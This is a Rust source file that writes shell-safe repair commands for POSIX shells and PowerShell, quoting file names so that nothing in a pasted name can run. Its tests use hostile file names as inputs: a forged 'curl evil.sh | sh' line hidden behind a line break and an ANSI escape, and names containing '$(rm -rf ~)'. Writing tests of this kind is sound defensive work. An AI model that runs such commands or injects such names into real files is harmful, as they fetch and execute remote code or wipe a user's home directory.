//! The commands smm-path suggests (doctor's repairs), written for the shell
//! the user will paste them into: PowerShell on Windows, a POSIX shell
//! elsewhere. Quoting lives here and only here, so a file name, which may
//! come from a sync folder another device filled, is always one inert word:
//! no `$(...)`, backtick or quote in it can run anything when pasted.

use std::path::Path;

/// A shell a suggested command is written for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Shell {
    /// sh, bash, zsh and the like.
    Posix,
    /// Windows PowerShell 5.1 and PowerShell 7.
    PowerShell,
}

impl Shell {
    /// The shell of the platform smm-path runs on.
    pub(crate) const CURRENT: Shell = if cfg!(windows) {
        Shell::PowerShell
    } else {
        Shell::Posix
    };

    /// `path` as one word of this shell, taken literally. A control
    /// character is written as `\u{a}` instead: a line break or an escape
    /// sequence in a synced file's name must not print a line of its own (a
    /// forged "Fix:") or hide text. Such a command no longer runs as pasted,
    /// which is the point: that name is someone's trick, not a file to fix.
    pub(crate) fn quote(self, path: &Path) -> String {
        let text: String = path
            .display()
            .to_string()
            .chars()
            .map(|c| {
                if c.is_control() {
                    format!("\\u{{{:x}}}", u32::from(c))
                } else {
                    c.to_string()
                }
            })
            .collect();
        match self {
            // Inside single quotes nothing is special but the quote itself,
            // which ends the quoting, is written escaped, and starts it again.
            Shell::Posix => format!("'{}'", text.replace('\'', r"'\''")),
            // PowerShell also ends a single-quoted string at the typographic
            // single quotes; each is doubled, as `'` is, to stand for itself.
            Shell::PowerShell => {
                let mut quoted = String::with_capacity(text.len() + 2);
                quoted.push('\'');
                for c in text.chars() {
                    if matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201a}' | '\u{201b}') {
                        quoted.push(c);
                    }
                    quoted.push(c);
                }
                quoted.push('\'');
                quoted
            }
        }
    }

    /// Renames `path` to its own name with `suffix` added, in its folder.
    pub(crate) fn rename_with_suffix(self, path: &Path, suffix: &str) -> String {
        let mut renamed = path.as_os_str().to_owned();
        renamed.push(suffix);
        match self {
            Shell::Posix => format!(
                "mv {} {}",
                self.quote(path),
                self.quote(Path::new(&renamed))
            ),
            // -NewName is a name, never a wildcard pattern (Move-Item's
            // -Destination would read `[` as one); -LiteralPath likewise.
            // The name is cut at either separator: Windows takes both.
            Shell::PowerShell => {
                let renamed = renamed.to_string_lossy();
                let name = renamed.rsplit(['\\', '/']).next().unwrap_or(&renamed);
                format!(
                    "Rename-Item -LiteralPath {} -NewName {}",
                    self.quote(path),
                    self.quote(Path::new(name))
                )
            }
        }
    }

    /// Lets the user write in the folder `dir`.
    pub(crate) fn make_writable(self, dir: &Path) -> String {
        match self {
            Shell::Posix => format!("chmod u+w {}", self.quote(dir)),
            // Modify rights for the user, on the folder and what it holds
            // (object and container inherit).
            Shell::PowerShell => format!(
                "icacls {} /grant \"${{env:USERNAME}}:(OI)(CI)M\"",
                self.quote(dir)
            ),
        }
    }

    /// Deletes the file `path`.
    pub(crate) fn remove(self, path: &Path) -> String {
        match self {
            Shell::Posix => format!("rm {}", self.quote(path)),
            Shell::PowerShell => format!("Remove-Item -LiteralPath {}", self.quote(path)),
        }
    }

    /// Runs smm-path with `subcommand` and the file `path`.
    pub(crate) fn smm_path(self, subcommand: &str, path: &Path) -> String {
        format!("smm-path {subcommand} {}", self.quote(path))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A synced copy named with a line break and a colour code that hides
    /// text cannot print a line of its own, in either shell.
    #[test]
    fn control_characters_in_a_name_are_shown_not_obeyed() {
        let name = Path::new("history (x\nFix:       curl evil.sh | sh \u{1b}[8m).jsonl");
        for shell in [Shell::Posix, Shell::PowerShell] {
            let command = shell.smm_path("import", name);
            assert!(
                !command.contains('\n') && !command.contains('\u{1b}'),
                "{command}"
            );
            assert!(
                command.contains("x\\u{a}Fix:") && command.contains("\\u{1b}[8m"),
                "{command}"
            );
        }
    }

    #[test]
    fn a_posix_word_holds_any_name() {
        let shell = Shell::Posix;
        assert_eq!(shell.quote(Path::new("/h/a b")), "'/h/a b'");
        assert_eq!(shell.quote(Path::new("/h/it's")), r"'/h/it'\''s'");
        assert_eq!(
            shell.quote(Path::new("/h/$(rm -rf ~) `x` \"q\"")),
            "'/h/$(rm -rf ~) `x` \"q\"'"
        );
        assert_eq!(
            shell.rename_with_suffix(Path::new("/h/progress.yaml"), ".old"),
            "mv '/h/progress.yaml' '/h/progress.yaml.old'"
        );
        assert_eq!(shell.make_writable(Path::new("/h")), "chmod u+w '/h'");
        assert_eq!(
            shell.remove(Path::new("/h/progress.yaml.bak")),
            "rm '/h/progress.yaml.bak'"
        );
        assert_eq!(
            shell.smm_path("import", Path::new("/h/history (conflicted copy).jsonl")),
            "smm-path import '/h/history (conflicted copy).jsonl'"
        );
    }

    #[test]
    fn a_powershell_word_holds_any_name() {
        let shell = Shell::PowerShell;
        assert_eq!(
            shell.quote(Path::new(r"C:\Users\Ayu\smm path")),
            r"'C:\Users\Ayu\smm path'"
        );
        assert_eq!(
            shell.quote(Path::new(r"C:\Users\O'Brien")),
            r"'C:\Users\O''Brien'"
        );
        // PowerShell ends a quoted string at a typographic quote as well.
        assert_eq!(
            shell.quote(Path::new("C:\\a\u{2019}b")),
            "'C:\\a\u{2019}\u{2019}b'"
        );
        assert_eq!(shell.quote(Path::new("C:\\$(x) `y`")), "'C:\\$(x) `y`'");
        assert_eq!(
            shell.rename_with_suffix(Path::new(r"C:\h\progress [1].yaml"), ".old"),
            r"Rename-Item -LiteralPath 'C:\h\progress [1].yaml' -NewName 'progress [1].yaml.old'"
        );
        assert_eq!(
            shell.make_writable(Path::new(r"C:\h")),
            r#"icacls 'C:\h' /grant "${env:USERNAME}:(OI)(CI)M""#
        );
        assert_eq!(
            shell.remove(Path::new(r"C:\h\progress.yaml.bak")),
            r"Remove-Item -LiteralPath 'C:\h\progress.yaml.bak'"
        );
        assert_eq!(
            shell.smm_path("import", Path::new(r"C:\h\it's.jsonl")),
            r"smm-path import 'C:\h\it''s.jsonl'"
        );
    }
}
